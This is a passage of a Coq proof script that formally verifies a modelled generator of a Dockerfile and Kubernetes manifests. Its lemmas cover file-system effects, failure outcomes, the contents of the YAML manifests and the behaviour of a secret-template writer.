        | None => (Ok tt, set_fs (make_dirs K (remove_tree P (fs st))) st)
        end
    end.
Proof.
  intros P K Hwf. unfold prepare. rewrite run_bind.
  change (path_exists output_dir st)
    with (Ok (bool_decide (is_Some (fs_get (fs st) P))), st).
  cbv beta iota. rewrite run_bind.
  assert (resolve (cwd st) (path_join output_dir "k8s") = K) as HK
    by by apply resolve_join.
  destruct (fs_get (fs st) P) as [[|c]|] eqn:HP.
  - rewrite bool_decide_eq_true_2 by eauto.
    unfold rmtree. fold P. rewrite HP. cbv beta iota.
    unfold makedirs. cbn [cwd fs set_fs]. rewrite HK.
    by rewrite cleared_no_file.
  - rewrite bool_decide_eq_true_2 by eauto.
    unfold rmtree. fold P. by rewrite HP.
  - rewrite bool_decide_eq_false_2 by (by intros [? ?]).
    rewrite remove_tree_absent by done.
    change (ret () st) with (Ok (), st). cbv beta iota.
    unfold makedirs. rewrite HK.
    by destruct (List.find _ _).
Qed.

Lemma open_w_ok (p : string) (st : state) :
  let P := resolve (cwd st) p in
  P ≠ [] → fs_get (fs st) (parent P) = Some Dir → fs st !! P ≠ Some Dir →
  open_w p st = (Ok P, set_fs (<[P := File EmptyString]> (fs st)) st).
Proof.
  intros P HP Hpar Hnd. unfold open_w. fold P.
  destruct P as [|c r] eqn:E; [done|]. rewrite Hpar.
  by destruct (fs st !! (c :: r)) as [[|?]|].
Qed.

(** Opening a file either fails and changes nothing, or creates the
    empty file. *)
Lemma open_w_cases (p : string) (st : state) :
  let P := resolve (cwd st) p in
  (∃ e, open_w p st = (Raise e, st))
  ∨ (open_w p st = (Ok P, set_fs (<[P := File EmptyString]> (fs st)) st)
     ∧ fs st !! P ≠ Some Dir).
Proof.
  intros P. unfold open_w. fold P.
  destruct P as [|c r] eqn:E; [eauto|].
  destruct (fs_get (fs st) (parent (c :: r))) as [[|?]|]; [|eauto..].
  destruct (fs st !! (c :: r)) as [[|?]|] eqn:E'; eauto.
Qed.

(** Writing to a file just opened leaves the file with that text. *)
Lemma fwrite_fresh (h : path) (s : string) (m : fsmap) (st : state) :
  fwrite h s (set_fs (<[h := File EmptyString]> m) st)
  = (Ok tt, set_fs (<[h := File s]> m) st).
Proof. unfold fwrite. cbn [fs set_fs cwd calls]. by rewrite alter_insert_eq. Qed.

Lemma insert_file_not_dir (m : fsmap) (p q : path) (c : string) :
  m !! q ≠ Some Dir → <[p := File c]> m !! q ≠ Some Dir.
Proof. rewrite lookup_insert. by case_decide. Qed.

(** The rendering phase stops at the first failure and leaves what it
    has written: from a state where the destination [P] is a directory
    and the build file can be created, it ends with the first [k] files
    of the bundle written, [k] between one and four.  It succeeds with
    all four; it fails with the exception of the first failing step: the
    lookup of a name in [envs], or the opening of the next file. *)
Lemma render_outcomes (app_name : string) (port node_port : jsval)
    (envs : list env) (output_dir : string) (st : state) r st' :
  let P := resolve (cwd st) output_dir in
  let bundle := artifacts app_name port node_port envs output_dir in
  fs_get (fs st) P = Some Dir →
  fs st !! (P ++ ["Dockerfile"]) ≠ Some Dir →
  render app_name port node_port envs output_dir st = (r, st') →
  ∃ k, 1 ≤ k ≤ 4
    ∧ st' = set_fs (written (cwd st) (take k bundle) (fs st)) st
    ∧ ((k = 4 ∧ r = Ok tt)
       ∨ ∃ e, r = Raise e
           ∧ ((k = 1 ∧ Template.env_names envs = Raise e)
              ∨ ∃ p c, bundle !! k = Some (p, c)
                       ∧ open_w p st' = (Raise e, st'))).
Proof.
  intros P bundle HP HD. unfold render.
  assert (resolve (cwd st) (path_join output_dir "Dockerfile")
          = P ++ ["Dockerfile"]) as ED by by apply resolve_join.
  rewrite run_bind, open_w_ok; rewrite ?ED; [| by destruct P | | done].
  2:{ unfold parent. by rewrite removelast_last. }
  cbv beta iota. rewrite run_bind.
  unfold bundle, artifacts, dockerfile_text, lift.
  destruct (Template.env_names envs) as [names|e].
  2:{ intros [= <- <-]. exists 1. split; [lia|]. split; [|by eauto 6].
      unfold written, dockerfile_path. simpl. by rewrite ED. }
  cbv beta iota. rewrite run_bind, fwrite_fresh. cbv beta iota.
  set (st1 := set_fs _ st).
  assert (st1 = set_fs (written (cwd st)
            [(dockerfile_path output_dir, Template.dockerfile names)] (fs st)) st)
    as E1.
  { unfold st1, written, dockerfile_path. simpl. by rewrite ED. }
  rewrite run_bind.
  destruct (open_w_cases (deployment_path output_dir app_name) st1)
    as [[e He]|[He Hnd]]; unfold deployment_path, k8s_path in He; rewrite He.
  { intros [= <- <-]. exists 1. split; [lia|]. split; [done|].
    right. exists e. split; [done|]. right. eauto. }
  cbv beta iota. rewrite run_bind, fwrite_fresh. cbv beta iota.
  set (st2 := set_fs _ st1). rewrite run_bind.
  assert (st2 = set_fs (written (cwd st)
            [(dockerfile_path output_dir, Template.dockerfile names);
             (deployment_path output_dir app_name,
              Template.deployment app_name port)] (fs st)) st)
    as E2.
  { unfold st2. rewrite E1. done. }
  destruct (open_w_cases (service_path output_dir app_name) st2)
    as [[e He2]|[He2 Hnd2]]; unfold service_path, k8s_path in He2; rewrite He2.
  { intros [= <- <-]. exists 2. split; [lia|]. split; [done|].
    right. exists e. split; [done|]. right. eauto. }
  cbv beta iota. rewrite run_bind, fwrite_fresh. cbv beta iota.
  set (st3 := set_fs _ st2). rewrite run_bind.
  assert (st3 = set_fs (written (cwd st)
            [(dockerfile_path output_dir, Template.dockerfile names);
             (deployment_path output_dir app_name,
              Template.deployment app_name port);
             (service_path output_dir app_name,
              Template.service app_name port node_port)] (fs st)) st)
    as E3.
  { unfold st3. rewrite E2. done. }
  destruct (open_w_cases (hpa_path output_dir app_name) st3)
    as [[e He3]|[He3 Hnd3]]; unfold hpa_path, k8s_path in He3; rewrite He3.
  { intros [= <- <-]. exists 3. split; [lia|]. split; [done|].
    right. exists e. split; [done|]. right. eauto. }
  cbv beta iota. rewrite fwrite_fresh.
  intros [= <- <-]. exists 4. split; [lia|]. split; [|by left].
  unfold st3, st2, st1, written, dockerfile_path, deployment_path,
    service_path, hpa_path, k8s_path. simpl. by rewrite ED.
Qed.

(** *** What [written] leaves in the file system *)

Lemma written_snoc (wd : path) (ws : list (string * string)) (p c : string)
    (m : fsmap) :
  written wd (ws ++ [(p, c)]) m = <[resolve wd p := File c]> (written wd ws m).
Proof. unfold written. by rewrite foldl_app. Qed.

Lemma written_not_dir (wd : path) (ws : list (string * string)) (m : fsmap)
    (q : path) :
  m !! q ≠ Some Dir → written wd ws m !! q ≠ Some Dir.
Proof.
  induction ws as [|[p c] ws IH] using rev_ind; [done|].
  intros H. rewrite written_snoc. by apply insert_file_not_dir, IH.
Qed.

Lemma written_frame (wd : path) (ws : list (string * string)) (m : fsmap)
    (q : path) :
  Forall (λ w, resolve wd w.1 ≠ q) ws → written wd ws m !! q = m !! q.
Proof.
  induction ws as [|[p c] ws IH] using rev_ind; [done|].
  intros [H1 H2%Forall_inv]%Forall_app.
  rewrite written_snoc, lookup_insert_ne; [by apply IH|exact H2].
Qed.

Lemma written_is_file (wd : path) (ws : list (string * string)) (m : fsmap)
    (p c : string) :
  (p, c) ∈ ws → ∃ c', written wd ws m !! resolve wd p = Some (File c').
Proof.
  induction ws as [|[p' c'] ws IH] using rev_ind; [by intros ?%elem_of_nil|].
  rewrite written_snoc, lookup_insert. intros [Hin|Hin]%elem_of_app.
  - case_decide; eauto.
  - apply list_elem_of_singleton in Hin as [= <- <-].
    rewrite decide_True by done. eauto.
Qed.

(** *** The paths of a request with a one-component name *)

Lemma resolve_k8s_path (wd : path) (output_dir file : string) :
  path_component file = true →
  resolve wd (k8s_path output_dir file) = resolve wd output_dir ++ ["k8s"; file].
Proof.
  intros H. unfold k8s_path. rewrite !resolve_join by done.
  by rewrite <- app_assoc.
Qed.

Lemma resolve_destination (wd : path) (app_name : string) :
  path_component app_name = true →
  resolve wd (destination app_name) = wd ++ ["generated"; app_name].
Proof.
  intros H. unfold destination. rewrite resolve_join by done.
  rewrite resolve_component by done. by rewrite <- app_assoc.
Qed.

Lemma manifest_component (app_name suffix : string) :
  path_component app_name = true →
  suffix ∈ [".yaml"; "-service.yaml"; "-hpa.yaml"] →
  path_component (app_name +:+ suffix) = true.
Proof.
  intros H Hs.
  repeat (apply elem_of_cons in Hs as [->|Hs]);
    [..|by apply elem_of_nil in Hs];
    (apply path_component_app; [done|by vm_compute|vm_compute; lia]).
Qed.

End Run.

(** ** Successful runs *)

Section Success.
Import Os.

Lemma snoc_stored (l : path) (x : string) : l ++ [x] ≠ [].
Proof. by destruct l. Qed.

Lemma snoc_ne (l : path) (x : string) : l ++ [x] ≠ l.
Proof. intros E%(f_equal length). rewrite length_app in E. simpl in E. lia. Qed.

Lemma snoc_ne_snoc (l : path) (x y : string) : x ≠ y → l ++ [x] ≠ l ++ [y].
Proof. intros H E%app_inv_head. congruence. Qed.

Lemma snoc2_ne_snoc (l : path) (x y z : string) : l ++ [x; y] ≠ l ++ [z].
Proof. by intros E%app_inv_head. Qed.

(** The prepared destination: directories down to [K], nothing else at
    or below [P]. *)
Lemma prepared_lookup (m : fsmap) (P q : path) :
  P `prefix_of` q →
  make_dirs (P ++ ["k8s"]) (remove_tree P m) !! q
  = if decide (q ≠ [] ∧ (q = P ∨ q = P ++ ["k8s"])) then Some Dir else None.
Proof.
  intros Hpre. rewrite lookup_make_dirs, lookup_remove_tree.
  rewrite (decide_True (P:=P `prefix_of` q)) by done.
  destruct (decide (q ≠ [] ∧ q `prefix_of` P ++ ["k8s"])) as [[Hq H]|H].
  - rewrite decide_True; [done|]. split; [done|].
    apply prefix_snoc_inv in H as [H|H]; [left|by right].
    by apply (anti_symm prefix).
  - rewrite decide_False; [done|]. intros [Hq [->| ->]]; apply H.
    + split; [done|]. by apply prefix_app_r.
    + done.
Qed.

Lemma set_fs_set_fs (m m' : fsmap) (st : state) :
  set_fs m (set_fs m' st) = set_fs m st.
Proof. reflexivity. Qed.

Section Destination.
Variables (app_name : string) (st : state).
Hypothesis Hname : path_component app_name = true.

Let P : path := cwd st ++ ["generated"; app_name].
Let K : path := P ++ ["k8s"].

Lemma destination_stored : P ≠ [].
Proof. unfold P. by destruct (cwd st). Qed.

Lemma resolve_dockerfile_path :
  resolve (cwd st) (dockerfile_path (destination app_name)) = P ++ ["Dockerfile"].
Proof.
  unfold dockerfile_path. rewrite resolve_join by done.
  by rewrite resolve_destination.
Qed.

Lemma resolve_manifest_path (file : string) :
  path_component file = true →
  resolve (cwd st) (k8s_path (destination app_name) file) = K ++ [file].
Proof.
  intros H. rewrite resolve_k8s_path, resolve_destination by done.
  unfold K, P. by rewrite <- !app_assoc.
Qed.

(** No file of the bundle is the directory [K]. *)
Lemma bundle_off_k8s (port node_port : jsval) (envs : list env) (k : nat) :
  Forall (λ w, resolve (cwd st) w.1 ≠ K)
    (take k (artifacts app_name port node_port envs (destination app_name))).
Proof.
  apply Forall_take. unfold artifacts, deployment_path, service_path, hpa_path.
  repeat apply Forall_cons_2; [..|done]; cbn [fst].
  - rewrite resolve_dockerfile_path. unfold K. by apply snoc_ne_snoc.
  - rewrite resolve_manifest_path; [apply snoc_ne|]. apply manifest_component; [done|by repeat constructor].
  - rewrite resolve_manifest_path; [apply snoc_ne|]. apply manifest_component; [done|by repeat constructor].
  - rewrite resolve_manifest_path; [apply snoc_ne|]. apply manifest_component; [done|by repeat constructor].
Qed.

(** In the prepared destination, with any files written beside [K],
    a manifest can be opened. *)
Lemma open_manifest_ok (m : fsmap) (ws : list (string * string)) (file : string) :
  path_component file = true →
  Forall (λ w, resolve (cwd st) w.1 ≠ K) ws →
  let m' := written (cwd st) ws (make_dirs K (remove_tree P m)) in
  open_w (k8s_path (destination app_name) file) (set_fs m' st)
  = (Ok (K ++ [file]), set_fs (<[K ++ [file] := File EmptyString]> m') st).
Proof.
  intros Hf Hws m'.
  pose proof (open_w_ok (k8s_path (destination app_name) file) (set_fs m' st)) as H.
  cbn [cwd fs set_fs] in H. rewrite resolve_manifest_path in H by done.
  apply H.
  - apply snoc_stored.
  - unfold parent. rewrite removelast_last, fs_get_stored by apply snoc_stored.
    unfold m'. rewrite written_frame by done. unfold K.
    rewrite prepared_lookup by apply prefix_app_r, reflexivity.
    rewrite decide_True; [done|]. split; [apply snoc_stored|by right].
  - unfold m'. apply written_not_dir. unfold K.
    rewrite prepared_lookup by (rewrite <- app_assoc; by apply prefix_app_r).
    rewrite decide_False; [done|]. intros [_ [E|E]].
    + apply (f_equal length) in E. rewrite !length_app in E. simpl in E. lia.
    + by apply snoc_ne in E.
Qed.

Lemma render_ok (port node_port : jsval) (envs : list env) (names : list string)
    (m : fsmap) :
  Template.env_names envs = Ok names →
  let bundle := artifacts app_name port node_port envs (destination app_name) in
  let m2 := make_dirs K (remove_tree P m) in
  render app_name port node_port envs (destination app_name) (set_fs m2 st)
  = (Ok tt, set_fs (written (cwd st) bundle m2) st).
Proof.
  intros Hnames bundle m2.
  destruct (render _ _ _ _ _ _) as [r st'] eqn:E.
  apply render_outcomes in E as (k & Hk & -> & Hcase); cbn [cwd fs set_fs].
  - destruct Hcase as [[-> ->]|(e & -> & [[_ He]|(p & c & Hp & Hopen)])];
      [done|congruence|exfalso].
    cbn [cwd fs set_fs] in Hopen.
    unfold bundle, artifacts in Hp.
    destruct k as [|[|[|[|k]]]]; [lia| | | |done];
      apply (inj Some) in Hp; injection Hp as <- <-;
      unfold deployment_path, service_path, hpa_path in Hopen.
    all: rewrite !set_fs_set_fs in Hopen; unfold m2 in Hopen;
      rewrite open_manifest_ok in Hopen;
      done || (by apply bundle_off_k8s) || (apply manifest_component; [done|by repeat constructor]).
  - rewrite resolve_destination by done. fold P.
    rewrite fs_get_stored by apply destination_stored.
    unfold m2, K. rewrite prepared_lookup by done.
    rewrite decide_True; [done|]. split; [apply destination_stored|by left].
  - rewrite resolve_destination by done. fold P.
    unfold m2, K. rewrite prepared_lookup by by apply prefix_app_r.
    rewrite decide_False; [done|]. intros [_ [H|H]].
    + by apply snoc_ne in H.
    + by apply snoc_ne_snoc in H.
Qed.
End Destination.

Lemma generate_files_ok (app_name : string) (port node_port : jsval)
    (envs : list env) (names : list string) (st : state) :
  let P := cwd st ++ ["generated"; app_name] in
  path_component app_name = true →
  Template.env_names envs = Ok names →
  destination_free st app_name →
  generate_files app_name port node_port envs (destination app_name) st
  = (Ok tt,
     {| cwd := cwd st;
        fs := written (cwd st)
                (artifacts app_name port node_port envs (destination app_name))
                (make_dirs (P ++ ["k8s"]) (remove_tree P (fs st)));
        calls := "generate_files" :: calls st |}).
Proof.
  intros P Hname Hnames (Hwf & Hcwd & Hgen & Hdest).
  rewrite generate_files_phases, prepare_run by done.
  cbn [cwd fs logged]. rewrite resolve_destination by done. fold P.
  assert (List.find (is_file (remove_tree P (fs st))) (prefixes (P ++ ["k8s"]))
          = None) as ->.
  { apply find_none_iff. intros q [Hq Hpre]%elem_of_prefixes.
    unfold is_file. rewrite fs_get_stored, lookup_remove_tree by done.
    case_decide as HPq; [done|].
    apply prefix_snoc_inv in Hpre as [Hpre| ->];
      [|destruct HPq; by apply prefix_app_r].
    unfold P in Hpre. change ["generated"; app_name] with (["generated"] ++ [app_name]) in Hpre.
    rewrite app_assoc in Hpre.
    apply prefix_snoc_inv in Hpre as [Hpre| ->].
    2:{ destruct HPq. unfold P. change ["generated"; app_name] with (["generated"] ++ [app_name]). by rewrite app_assoc. }
    apply prefix_snoc_inv in Hpre as [Hpre| ->].
    - rewrite <- (fs_get_stored (fs st)) by done.
      by rewrite (wf_prefix_dir _ (cwd st) q).
    - unfold is_file in Hgen. by rewrite fs_get_stored in Hgen by by destruct (cwd st). }
  unfold is_file in Hdest. fold P in Hdest.
  destruct (fs_get (fs st) P) as [[|c]|] eqn:HP; [|done|].
  all: cbv beta iota;
    exact (render_ok app_name (logged "generate_files" st) Hname
             port node_port envs names (fs st) Hnames).
Qed.

Lemma written_lookup (wd : path) (ws : list (string * string)) (m : fsmap)
    (p c : string) :
  NoDup (map (λ w, resolve wd w.1) ws) → (p, c) ∈ ws →
  written wd ws m !! resolve wd p = Some (File c).
Proof.
  induction ws as [|[p' c'] ws IH] using rev_ind; [by intros _ ?%elem_of_nil|].
  rewrite map_app, written_snoc. cbn [map fst].
  intros [Hnd [Hnot _]]%NoDup_app [Hin|Hin]%elem_of_app.
  - rewrite lookup_insert_ne; [by apply IH|].
    intros E. apply (Hnot (resolve wd p)); [|rewrite E; by left].
    apply list_elem_of_fmap. by exists (p, c).
  - apply list_elem_of_singleton in Hin as [= <- <-]. apply lookup_insert_eq.
Qed.

Section Bundle.
Variables (app_name : string) (port node_port : jsval) (envs : list env)
          (st : state).
Hypothesis Hname : path_component app_name = true.

Let P : path := cwd st ++ ["generated"; app_name].
Let K : path := P ++ ["k8s"].
Let bundle := artifacts app_name port node_port envs (destination app_name).

Lemma bundle_paths :
  map (λ w, resolve (cwd st) w.1) bundle
  = [P ++ ["Dockerfile"]; K ++ [app_name +:+ ".yaml"];
     K ++ [app_name +:+ "-service.yaml"]; K ++ [app_name +:+ "-hpa.yaml"]].
Proof.
  unfold bundle, artifacts, deployment_path, service_path, hpa_path.
  cbn [map fst]. rewrite resolve_dockerfile_path by done.
  rewrite !resolve_manifest_path;
    done || (apply manifest_component; [done|by repeat constructor]).
Qed.

Lemma bundle_paths_distinct : NoDup (map (λ w, resolve (cwd st) w.1) bundle).
Proof.
  rewrite bundle_paths. unfold K.
  repeat (apply NoDup_cons; split); [..|apply NoDup_nil_2];
    rewrite ?elem_of_cons, elem_of_nil; intros H;
    repeat (destruct H as [H|H]); try done;
    rewrite <- ?app_assoc in H; apply app_inv_head in H;
    try discriminate; injection H as H; by apply sapp_inv_l in H.
Qed.

(** Every file of the bundle can be read back from a file system it
    was written to. *)
Lemma bundle_read (m : fsmap) :
  Forall (λ w, read_file (set_fs (written (cwd st) bundle m) st) w.1 = Some w.2)
         bundle.
Proof.
  apply Forall_forall. intros [p c] Hin. unfold read_file. cbn [cwd fs set_fs fst snd].
  assert (resolve (cwd st) p ≠ []) as Hne.
  { assert (resolve (cwd st) p ∈ map (λ w, resolve (cwd st) w.1) bundle) as H
      by (apply list_elem_of_fmap; by exists (p, c)).
    rewrite bundle_paths in H. unfold K in H.
    repeat (apply elem_of_cons in H as [->|H]); try apply snoc_stored.
    by apply elem_of_nil in H. }
  rewrite fs_get_stored by done.
  by rewrite (written_lookup _ _ _ p c) by (apply bundle_paths_distinct || done).
Qed.
End Bundle.

(** *** Valid descriptors *)

Lemma all_chars_free (f : ascii → bool) (sep : ascii) (s : string) :
  f sep = false → all_chars f s = true → Text.free_of sep s = true.
Proof.
  intros Hsep. induction s as [|c r IH]; [done|]. simpl.
  intros [Hc Hr]%andb_true_iff. rewrite IH by done.
  destruct (Ascii.eqb_spec c sep) as [->|]; [congruence|done].
Qed.

Lemma safe_identifier_component (s : string) :
  safe_identifier s = true → path_component s = true.
Proof.
  unfold safe_identifier, path_component.
  intros [[Hne Hall]%andb_true_iff _]%andb_true_iff.
  apply andb_true_iff. split; [|by apply (all_chars_free is_label_char)].
  apply negb_true_iff, bool_decide_eq_false in Hne.
  apply negb_true_iff, bool_decide_eq_false.
  intros [E|[->| ->]]; done.
Qed.

Lemma safe_identifier_single_line (s : string) :
  safe_identifier s = true → Text.single_line s = true.
Proof.
  unfold safe_identifier. intros [[_ Hall]%andb_true_iff _]%andb_true_iff.
  by apply (all_chars_free is_label_char).
Qed.

Lemma env_names_complete (envs : list env) :
  forallb env_complete envs = true →
  Template.env_names envs = Ok (declared_names envs).
Proof.
  induction envs as [|e r IH]; [done|]. cbn [forallb].
  intros [He Hr]%andb_true_iff. unfold env_complete in He.
  apply andb_true_iff in He as [[n Hn]%bool_decide_eq_true _].
  unfold declared_names. cbn [Template.env_names omap list_omap].
  unfold Template.subscript. rewrite Hn. fold (declared_names r).
  by rewrite IH.
Qed.

Lemma valid_descriptor_inv (app_name : string) (port node_port : jsval)
    (envs : list env) :
  valid_descriptor app_name port node_port envs = true →
  safe_identifier app_name = true
  ∧ (∃ z, port = JInt z) ∧ (∃ z, node_port = JInt z)
  ∧ Template.env_names envs = Ok (declared_names envs)
  ∧ NoDup (declared_names envs).
Proof.
  unfold valid_descriptor. rewrite !andb_true_iff.
  intros [[[[Hs Hp] Hn] He] Hd]. split; [done|].
  split; [destruct port; try done; eauto|].
  split; [destruct node_port; try done; eauto|].
  split; [by apply env_names_complete|]. by apply bool_decide_eq_true in Hd.
Qed.

End Success.

(** ** Reading the manifests *)

Section Manifests.
Import Text.

(** Splitting a template into lines, around the one-line texts it
    interpolates. *)
Ltac template_lines :=
  repeat ((rewrite lines_app_single by assumption) || rewrite lines_app).

Lemma uint_single_line (d : Decimal.uint) :
  single_line (NilEmpty.string_of_uint d) = true.
Proof. induction d; simpl; auto. Qed.

Lemma py_str_int_single_line (z : Z) : single_line (py_str (JInt z)) = true.
Proof.
  assert (∀ d, single_line (NilZero.string_of_uint d) = true) as H.
  { intros d. unfold NilZero.string_of_uint.
    destruct d; [done|apply uint_single_line..]. }
  unfold py_str, NilZero.string_of_int.
  destruct (Z.to_int z) as [d|d]; [apply H|].
  change (single_line (NilZero.string_of_uint d) = true). apply H.
Qed.

Variables (app_name : string) (port node_port : jsval).
Hypothesis Hname : single_line app_name = true.
Hypothesis Hport : single_line (py_str port) = true.
Hypothesis Hnode : single_line (py_str node_port) = true.

(** The workload manifest: every name in it is the application name,
    and the secret it loads is the derived secret name. *)
Lemma deployment_names :
  let text := Template.deployment app_name port in
  Yaml.get ["metadata"; "name"] text = Some app_name
  ∧ Yaml.get ["metadata"; "labels"; "app"] text = Some app_name
  ∧ Yaml.get ["spec"; "selector"; "matchLabels"; "app"] text = Some app_name
  ∧ Yaml.get ["spec"; "template"; "metadata"; "labels"; "app"] text = Some app_name
  ∧ Yaml.get ["spec"; "template"; "spec"; "containers"; "name"] text = Some app_name
  ∧ Yaml.get ["spec"; "template"; "spec"; "containers"; "envFrom"; "secretRef"; "name"] text
    = Some (app_name +:+ "-secret").
Proof.
  cbv zeta. unfold Yaml.get, Template.deployment. template_lines.
  by vm_compute.
Qed.

(** The probes of the workload manifest. *)
Lemma deployment_probes :
  let text := Template.deployment app_name port in
  let probe kind field :=
    Yaml.get ["spec"; "template"; "spec"; "containers"; kind; field] text in
  let path kind :=
    Yaml.get ["spec"; "template"; "spec"; "containers"; kind; "httpGet"; "path"] text in
  path "livenessProbe" = Some ("/" +:+ app_name)
  ∧ path "readinessProbe" = Some ("/" +:+ app_name)
  ∧ map (probe "livenessProbe")
      ["initialDelaySeconds"; "periodSeconds"; "timeoutSeconds"; "failureThreshold"]
    = [Some "30"; Some "10"; Some "5"; Some "3"]
  ∧ map (probe "readinessProbe")
      ["initialDelaySeconds"; "periodSeconds"; "timeoutSeconds"; "failureThreshold"]
    = [Some "5"; Some "5"; Some "3"; Some "3"].
Proof.
  cbv zeta. unfold Yaml.get, Template.deployment. template_lines.
  by vm_compute.
Qed.

Lemma service_names :
  let text := Template.service app_name port node_port in
  Yaml.get ["metadata"; "name"] text = Some (app_name +:+ "-service")
  ∧ Yaml.get ["spec"; "selector"; "app"] text = Some app_name.
Proof.
  cbv zeta. unfold Yaml.get, Template.service. template_lines.
  by vm_compute.
Qed.

Lemma hpa_names :
  let text := Template.hpa app_name in
  Yaml.get ["metadata"; "name"] text = Some (app_name +:+ "-hpa")
  ∧ Yaml.get ["spec"; "scaleTargetRef"; "kind"] text = Some "Deployment"
  ∧ Yaml.get ["spec"; "scaleTargetRef"; "name"] text = Some app_name.
Proof.
  cbv zeta. unfold Yaml.get, Template.hpa. template_lines.
  by vm_compute.
Qed.

(** The secret template is named after the derived secret name,
    whatever its entries. *)
Lemma secret_name (var_names : list string) :
  Yaml.get ["metadata"; "name"] (secret_text app_name var_names)
  = Some (app_name +:+ "-secret").
Proof.
  unfold Yaml.get, secret_text, Template.secret_header. template_lines.
  pose proof (split_on_nonempty nl
    (join EmptyString (map Template.secret_entry var_names))) as Hne.
  fold (lines (join EmptyString (map Template.secret_entry var_names))) in Hne.
  destruct (lines _) as [|h t]; [done|]. by vm_compute.
Qed.

End Manifests.

Lemma secret_no_entries (app_name : string) :
  Text.single_line app_name = true →
  Yaml.keys_at ["stringData"] (secret_text app_name []) = Some [].
Proof.
  intros H. unfold Yaml.keys_at, secret_text, Template.secret_header.
  repeat ((rewrite lines_app_single by assumption) || rewrite lines_app).
  by vm_compute.
Qed.

Lemma dockerfile_no_variables :
  Dockerfile.build_args (Template.dockerfile []) = ["PORT"].
Proof. by vm_compute. Qed.

(** ** The log of calls and the secret writer *)

Section Calls.
Import Os.

Lemma keeps_calls_bind {A B} (c : M A) (k : A → M B) :
  keeps_calls c → (∀ a, keeps_calls (k a)) → keeps_calls (c ≫= k).
Proof.
  intros Hc Hk st. rewrite run_bind. specialize (Hc st).
  destruct (c st) as [[a|e] st1]; simpl in *; [|done].
  by rewrite Hk.
Qed.

Lemma keeps_calls_ret {A} (a : A) : keeps_calls (ret a).
Proof. done. Qed.

Lemma keeps_calls_raise {A} (e : exn) : keeps_calls (@raise A e).
Proof. done. Qed.

Lemma keeps_calls_lift {A} (r : result A) : keeps_calls (lift r).
Proof. done. Qed.

Lemma keeps_calls_global {A} (b : option A) (n : string) : keeps_calls (global b n).
Proof. by destruct b. Qed.

Lemma keeps_calls_path_exists (p : string) : keeps_calls (path_exists p).
Proof. done. Qed.

Lemma keeps_calls_rmtree (p : string) : keeps_calls (rmtree p).
Proof. intros st. unfold rmtree. by destruct (fs_get _ _) as [[|?]|]. Qed.

Lemma keeps_calls_makedirs (p : string) : keeps_calls (makedirs p).
Proof. intros st. unfold makedirs. by destruct (List.find _ _). Qed.

Lemma keeps_calls_open_w (p : string) : keeps_calls (open_w p).
Proof.
  intros st. unfold open_w. destruct (resolve _ _); [done|].
  destruct (fs_get _ _) as [[|?]|]; [|done..].
  by destruct (fs st !! _) as [[|?]|].
Qed.

Lemma keeps_calls_fwrite (h : path) (s : string) : keeps_calls (fwrite h s).
Proof. done. Qed.

Lemma keeps_calls_if {A} (b : bool) (c1 c2 : M A) :
  keeps_calls c1 → keeps_calls c2 → keeps_calls (if b then c1 else c2).
Proof. by destruct b. Qed.

Lemma keeps_calls_for_each {A} (xs : list A) (body : A → M unit) :
  (∀ x, keeps_calls (body x)) → keeps_calls (for_each xs body).
Proof.
  intros H. induction xs as [|x r IH]; [done|].
  cbn [for_each]. by apply keeps_calls_bind.
Qed.

End Calls.

Create HintDb calls discriminated.
#[export] Hint Resolve keeps_calls_ret keeps_calls_raise keeps_calls_lift
  keeps_calls_global keeps_calls_path_exists keeps_calls_rmtree
  keeps_calls_makedirs keeps_calls_open_w keeps_calls_fwrite
  keeps_calls_if keeps_calls_for_each : calls.
#[export] Hint Extern 1 (keeps_calls (_ ≫= _)) =>
  apply keeps_calls_bind; [|intros ?] : calls.

Section Reach.
Import Os.





End Reach.

Section SecretWriter.
Import Os.

Lemma sapp_assoc (a b c : string) : (a +:+ b) +:+ c = a +:+ (b +:+ c).
Proof. induction a as [|x a IH]; [done|]. by rewrite !sapp_cons, IH. Qed.

Lemma join_empty_cons (x : string) (r : list string) :
  Text.join EmptyString (x :: r) = x +:+ Text.join EmptyString r.
Proof.
  unfold Text.join. destruct r as [|y r]; simpl; [by rewrite sapp_nil_r|done].
Qed.

(** Writing to a file that holds [c] appends. *)
Lemma fwrite_append (h : path) (c s : string) (m : fsmap) (st : state) :
  fwrite h s (set_fs (<[h := File c]> m) st)
  = (Ok tt, set_fs (<[h := File (c +:+ s)]> m) st).
Proof. unfold fwrite. cbn [fs set_fs cwd calls]. by rewrite alter_insert_eq. Qed.

Lemma for_each_fwrite {A} (h : path) (g : A → string) (xs : list A)
    (c : string) (m : fsmap) (st : state) :
  for_each xs (λ x, fwrite h (g x)) (set_fs (<[h := File c]> m) st)
  = (Ok tt, set_fs (<[h := File (c +:+ Text.join EmptyString (map g xs))]> m) st).
Proof.
  revert c. induction xs as [|x r IH]; intros c.
  - simpl. unfold Text.join. simpl. by rewrite sapp_nil_r.
  - cbn [for_each map]. rewrite run_bind, fwrite_append. cbv beta iota.
    by rewrite IH, join_empty_cons, sapp_assoc.
Qed.

(** With the bindings of the module, a call writes the secret template
    and stops at the first use of [output_dir]. *)
Lemma write_secret_yaml_run (app_name : string) (var_names : list string)
    (output_path : string) (st : state) :
  creatable st output_path →
  write_secret_yaml module_globals app_name var_names output_path st
  = (Raise (NameError "output_dir"),
     {| cwd := cwd st;
        fs := <[resolve (cwd st) output_path
                := File (secret_text app_name var_names)]> (fs st);
        calls := "write_secret_yaml" :: calls st |}).
Proof.
  intros (HP & Hpar & Hnd). unfold write_secret_yaml.
  rewrite run_bind. cbv beta iota delta [log_call].
  fold (logged "write_secret_yaml" st).
  rewrite run_bind.
  rewrite (open_w_ok output_path (logged "write_secret_yaml" st)) by done.
  cbv beta iota. cbn [cwd fs logged].
  rewrite run_bind, fwrite_fresh. cbv beta iota.
  rewrite run_bind, for_each_fwrite. cbv beta iota.
  by rewrite run_bind.
Qed.


End SecretWriter.

(** ** Every run of [generate_files] *)

Section Outcomes.
Import Os.
Variables (app_name : string) (port node_port : jsval) (envs : list env)
          (output_dir : string) (st : state).
Hypothesis Hwf : fs_wf (fs st).

Let P : path := resolve (cwd st) output_dir.
Let K : path := P ++ ["k8s"].
Let bundle := artifacts app_name port node_port envs output_dir.
Let prepared : fsmap := make_dirs K (remove_tree P (fs st)).

Lemma prepared_destination : fs_get prepared P = Some Dir.
Proof.
  destruct (decide (P = [])) as [E|Hne]; [by rewrite E|].
  rewrite fs_get_stored by done. unfold prepared, K.
  rewrite prepared_lookup by done. rewrite decide_True; [done|]. by split; [|left].
Qed.

